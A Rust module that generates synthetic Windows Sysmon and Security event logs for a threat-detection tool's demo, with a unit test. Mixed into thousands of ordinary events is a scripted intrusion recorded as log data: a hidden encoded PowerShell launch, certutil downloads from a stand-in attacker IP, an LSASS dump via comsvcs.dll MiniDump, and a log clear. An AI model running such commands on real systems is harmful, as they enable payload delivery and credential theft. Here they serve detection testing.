//! Demo data the project generates itself: a working day of ordinary Windows activity on a
//! small network with one intrusion inside it, for `vigil serve --demo`.
//!
//! The story (times relative to now): a finance workstation opens a macro document that starts
//! encoded PowerShell, which downloads a payload with certutil and dumps LSASS through
//! comsvcs.dll; the attacker then runs discovery on the domain controller and clears its
//! Security log. Around it, thousands of ordinary process starts, network connections and
//! logons on twelve hosts. Every name, user and address is invented (documentation ranges).
//! The rules in `examples/rules` fire on the intrusion and on nothing else.

use jiff::{SignedDuration, Timestamp};
use serde_json::{Value, json};

/// One event in the flattened Windows shape (OTRF): channel, provider, host, time, then
/// `fields` (which may override the provider).
fn windows(
    channel: &str,
    provider: &str,
    host: &str,
    time: Timestamp,
    event_id: u32,
    fields: Value,
) -> Value {
    let mut event = json!({
        "EventID": event_id,
        "Channel": channel,
        "Hostname": host,
        "SourceName": provider,
        "TimeCreated": time.to_string(),
    });
    merge(&mut event, fields);
    event
}

fn sysmon(host: &str, time: Timestamp, event_id: u32, fields: Value) -> Value {
    let (channel, provider) = (
        "Microsoft-Windows-Sysmon/Operational",
        "Microsoft-Windows-Sysmon",
    );
    windows(channel, provider, host, time, event_id, fields)
}

fn security(host: &str, time: Timestamp, event_id: u32, fields: Value) -> Value {
    let provider = "Microsoft-Windows-Security-Auditing";
    windows("Security", provider, host, time, event_id, fields)
}

fn merge(into: &mut Value, from: Value) {
    if let (Value::Object(a), Value::Object(b)) = (into, from) {
        a.extend(b);
    }
}

/// Ordinary programs and who starts them: (image, command line, parent image).
const ORDINARY: &[(&str, &str, &str)] = &[
    (
        r"C:\Program Files\Google\Chrome\Application\chrome.exe",
        r#""C:\Program Files\Google\Chrome\Application\chrome.exe" --type=renderer"#,
        r"C:\Windows\explorer.exe",
    ),
    (
        r"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE",
        r#""OUTLOOK.EXE" /recycle"#,
        r"C:\Windows\explorer.exe",
    ),
    (
        r"C:\Windows\System32\notepad.exe",
        r#""C:\Windows\System32\notepad.exe" C:\Users\{user}\todo.txt"#,
        r"C:\Windows\explorer.exe",
    ),
    (
        r"C:\Windows\System32\svchost.exe",
        r"C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule",
        r"C:\Windows\System32\services.exe",
    ),
    (
        r"C:\Windows\System32\taskhostw.exe",
        r"taskhostw.exe -RegisterDevice",
        r"C:\Windows\System32\svchost.exe",
    ),
    (
        r"C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE",
        r#""EXCEL.EXE" "C:\Users\{user}\Documents\budget-q4.xlsx""#,
        r"C:\Windows\explorer.exe",
    ),
    (
        r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
        r"powershell.exe -File C:\IT\inventory.ps1",
        r"C:\Windows\System32\svchost.exe",
    ),
];

const USERS: &[&str] = &[
    "alice", "bob", "carol", "dave", "erin", "frank", "grace", "heidi", "ivan", "judy", "mallory",
    "oscar",
];

/// The demo as NDJSON bodies, one per source, in the order to send them: `(source, body)`.
/// `background` ordinary events are spread over the last `hours` hours before `now`.
pub fn generate(now: Timestamp, background: usize, hours: i64) -> Vec<(&'static str, String)> {
    let start = now - SignedDuration::from_hours(hours);
    let span_ms = (hours * 3_600_000).max(1);
    let mut sysmon_events = Vec::with_capacity(background + 8);
    let mut security_events = Vec::new();
    for i in 0..background {
        let host_no = i % USERS.len();
        let user = USERS[host_no];
        let host = format!("WKS-{:02}.corp.example", host_no + 1);
        // Spread evenly, with a stride so hosts interleave.
        let at = start + SignedDuration::from_millis((i as i64 * 7_919) % span_ms);
        match i % 10 {
            0..=5 => {
                let (image, cmd, parent) = ORDINARY[i % ORDINARY.len()];
                sysmon_events.push(sysmon(
                    &host,
                    at,
                    1,
                    json!({
                        "ProcessId": (1000 + i % 60000).to_string(),
                        "Image": image,
                        "CommandLine": cmd.replace("{user}", user),
                        "User": format!("CORP\\{user}"),
                        "IntegrityLevel": "Medium",
                        "ParentImage": parent,
                    }),
                ));
            }
            6..=8 => sysmon_events.push(sysmon(
                &host,
                at,
                3,
                json!({
                    "Image": ORDINARY[0].0,
                    "User": format!("CORP\\{user}"),
                    "Protocol": "tcp",
                    "Initiated": "true",
                    "SourceIp": format!("10.20.30.{}", 10 + host_no),
                    "SourcePort": (49152 + i % 16000).to_string(),
                    "DestinationIp": format!("198.51.100.{}", 1 + i % 200),
                    "DestinationPort": "443",
                }),
            )),
            _ => security_events.push(security(
                "SRV-DC-01.corp.example",
                at,
                4624,
                json!({
                    "TargetUserName": user,
                    "TargetDomainName": "CORP",
                    "LogonType": "3",
                    "IpAddress": format!("10.20.30.{}", 10 + host_no),
                    "WorkstationName": format!("WKS-{:02}", host_no + 1),
                }),
            )),
        }
    }

    // The intrusion, in the last hour.
    let t = |minutes_ago: i64| now - SignedDuration::from_mins(minutes_ago);
    let victim = "WKS-FIN-07.corp.example";
    let ps = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe";
    sysmon_events.push(sysmon(
        victim,
        t(52),
        1,
        json!({
            "ProcessId": "5120",
            "Image": ps,
            "CommandLine": "powershell.exe -NoP -W Hidden /enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
            "User": "CORP\\alice",
            "IntegrityLevel": "Medium",
            "ParentImage": r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE",
            "ParentCommandLine": r#""WINWORD.EXE" /n "C:\Users\alice\Downloads\invoice_7731.docm""#,
        }),
    ));
    sysmon_events.push(sysmon(
        victim,
        t(51),
        3,
        json!({
            "ProcessId": "5120",
            "Image": ps,
            "User": "CORP\\alice",
            "Protocol": "tcp",
            "Initiated": "true",
            "SourceIp": "10.20.30.47",
            "SourcePort": "50412",
            "DestinationIp": "203.0.113.66",
            "DestinationPort": "443",
        }),
    ));
    // Two downloads minutes apart: one alert with a count of two.
    for (minutes, file) in [(49, "s.dat"), (47, "t.dat")] {
        sysmon_events.push(sysmon(
            victim,
            t(minutes),
            1,
            json!({
                "ProcessId": "6032",
                "Image": r"C:\Windows\System32\certutil.exe",
                "CommandLine": format!(r"certutil.exe -urlcache -split -f http://203.0.113.66/{file} C:\Users\Public\{file}"),
                "User": "CORP\\alice",
                "IntegrityLevel": "Medium",
                "ParentImage": ps,
            }),
        ));
    }
    sysmon_events.push(sysmon(
        victim,
        t(40),
        1,
        json!({
            "ProcessId": "6400",
            "Image": r"C:\Windows\System32\rundll32.exe",
            "CommandLine": r"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 652 C:\Users\Public\d.bin full",
            "User": "CORP\\alice",
            "IntegrityLevel": "High",
            "ParentImage": r"C:\Windows\System32\cmd.exe",
        }),
    ));
    let dc = "SRV-DC-01.corp.example";
    security_events.push(security(
        dc,
        t(30),
        4688,
        json!({
            "SubjectUserName": "svc-backup",
            "SubjectDomainName": "CORP",
            "NewProcessId": "0x1a2c",
            "NewProcessName": r"C:\Windows\System32\whoami.exe",
            "CommandLine": "whoami /priv",
            "ParentProcessName": r"C:\Windows\System32\cmd.exe",
        }),
    ));
    security_events.push(security(
        dc,
        t(25),
        1102,
        json!({
            // The log-cleared event comes from the Eventlog service, not the auditing provider.
            "SourceName": "Microsoft-Windows-Eventlog",
            "SubjectUserName": "svc-backup",
            "SubjectDomainName": "CORP",
        }),
    ));

    let ndjson = |events: Vec<Value>| {
        let mut body = String::new();
        for e in events {
            body.push_str(&e.to_string());
            body.push('\n');
        }
        body
    };
    vec![
        ("demo-sysmon", ndjson(sysmon_events)),
        ("demo-security", ndjson(security_events)),
    ]
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn generates_the_story_and_the_background() {
        let now: Timestamp = "2026-12-02T12:00:00Z".parse().unwrap();
        let bodies = generate(now, 1000, 8);
        assert_eq!(bodies.len(), 2);
        let lines: usize = bodies.iter().map(|(_, b)| b.lines().count()).sum();
        assert_eq!(lines, 1000 + 7);
        assert!(bodies[0].1.contains("comsvcs.dll, MiniDump"));
        assert!(bodies[1].1.contains("\"EventID\":1102"));
        // Deterministic for a given time.
        assert_eq!(bodies, generate(now, 1000, 8));
    }
}
